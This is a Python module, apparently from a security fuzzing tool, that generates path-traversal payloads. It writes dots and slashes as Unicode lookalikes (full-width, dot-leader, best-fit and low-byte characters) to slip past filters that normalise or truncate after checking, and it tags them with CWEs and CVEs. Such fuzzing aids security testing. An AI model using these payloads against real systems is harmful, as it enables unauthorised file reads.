"""Climbs in characters that folding, best fit, truncation or removal turns into dots and slashes."""

from collections.abc import Iterator

from capfuzz.attacks.techniques.compose import straight, ways
from capfuzz.attacks.techniques.registry import Kind, technique

_FOLDS = "normalises to NFKC or NFKD after the check"
_FITS = "converts to a code page that replaces what it lacks by what looks alike"


@technique("fullwidth-dots", kind=Kind.PATH, group="unicode-folding", cwe="CWE-176", needs=_FOLDS)
def fullwidth_dots(root: str, target: str) -> Iterator[str]:
    """Write dots as full-width full stops (U+FF0E), both of them or one."""
    yield from ways(root, target, "\uff0e\uff0e/", ".\uff0e/")


@technique("fullwidth-slash", kind=Kind.PATH, group="unicode-folding", cwe="CWE-176", needs=_FOLDS)
def fullwidth_slash(root: str, target: str) -> Iterator[str]:
    """Write slashes as full-width solidi (U+FF0F), with plain and with full-width dots."""
    yield from ways(root, target, "..\uff0f", "\uff0e\uff0e\uff0f", slash="\uff0f")


@technique(
    "fullwidth-backslash",
    kind=Kind.PATH,
    group="unicode-folding",
    cwe="CWE-176",
    needs=f"{_FOLDS}, and takes \\ for a separator",
)
def fullwidth_backslash(root: str, target: str) -> Iterator[str]:
    """Write backslashes as full-width (U+FF3C) and small (U+FE68) reverse solidi."""
    yield from ways(root, target, "..\uff3c", "..\ufe68", slash="\uff3c")


@technique("dot-leaders", kind=Kind.PATH, group="unicode-folding", cwe="CWE-176", needs=_FOLDS)
def dot_leaders(root: str, target: str) -> Iterator[str]:
    """Write two dots as one two-dot leader (U+2025) or two one-dot leaders (U+2024)."""
    yield from ways(root, target, "\u2025/", "\u2024\u2024/", ".\u2024/")


@technique("small-full-stop", kind=Kind.PATH, group="unicode-folding", cwe="CWE-176", needs=_FOLDS)
def small_full_stop(root: str, target: str) -> Iterator[str]:
    """Write dots as small full stops (U+FE52)."""
    yield from ways(root, target, "\ufe52\ufe52/")


@technique("vertical-dots", kind=Kind.PATH, group="unicode-folding", cwe="CWE-176", needs=_FOLDS)
def vertical_dots(root: str, target: str) -> Iterator[str]:
    """Write two dots as one vertical two-dot leader (U+FE30)."""
    yield from ways(root, target, "\ufe30/")


@technique(
    "folded-percent",
    kind=Kind.PATH,
    group="unicode-folding",
    cwe="CWE-175",
    needs="normalises to NFKC and percent-decodes, both after the check",
)
def folded_percent(root: str, target: str) -> Iterator[str]:
    """Write the percent sign of an encoded dot in full width (U+FF05), or small (U+FE6A)."""
    yield from ways(root, target, "\uff052e\uff052e/", "..\ufe6a2f", "\uff05\uff12\uff45./")


@technique(
    "percent-folded",
    kind=Kind.PATH,
    group="unicode-folding",
    cwe="CWE-175",
    needs="percent-decodes as UTF-8 and then normalises to NFKC, both after the check",
)
def percent_folded(root: str, target: str) -> Iterator[str]:
    """Percent-encode full-width dots and slashes and the two-dot leader."""
    yield from ways(root, target, "%ef%bc%8e%ef%bc%8e/", "..%ef%bc%8f", "%e2%80%a5/")


@technique(
    "ideographic-stops",
    kind=Kind.PATH,
    group="best-fit",
    cwe="CWE-176",
    needs="maps every dot of the IDNA rules to a full stop",
)
def ideographic_stops(root: str, target: str) -> Iterator[str]:
    """Write dots as ideographic full stops (U+3002, U+FF61), which host names treat as dots."""
    yield from ways(root, target, "\u3002\u3002/", "\uff61\uff61/")


@technique(
    "slash-lookalikes",
    kind=Kind.PATH,
    group="best-fit",
    cwe="CWE-176",
    needs=_FITS,
    refs=("CVE-2024-4577",),
)
def slash_lookalikes(root: str, target: str) -> Iterator[str]:
    """Write slashes as fraction slash, division slash, box drawing and big solidus."""
    for mark in "\u2044\u2215\u2571\u29f8":
        yield straight(root, target, f"..{mark}", mark)


@technique(
    "backslash-lookalikes",
    kind=Kind.PATH,
    group="best-fit",
    cwe="CWE-176",
    needs=f"{_FITS}, and takes \\ for a separator",
    refs=("CVE-2024-4577",),
)
def backslash_lookalikes(root: str, target: str) -> Iterator[str]:
    """Write backslashes as yen and won signs, set minus, and big reverse solidus."""
    for mark in "\u00a5\u20a9\u2216\u29f5\u29f9":
        yield straight(root, target, f"..{mark}", mark)


@technique(
    "low-byte",
    kind=Kind.PATH,
    group="low-byte",
    cwe="CWE-197",
    needs="cuts each character down to its low byte, as a Latin-1 write buffer does",
    refs=("CVE-2018-12116",),
)
def low_byte(root: str, target: str) -> Iterator[str]:
    """Write dots and slashes as characters whose low byte is theirs (U+012E, U+012F, U+4E2E)."""
    yield from ways(root, target, "\u012e\u012e/", "..\u012f", "\u4e2e\u4e2e\u4e2f", "..\u015c")
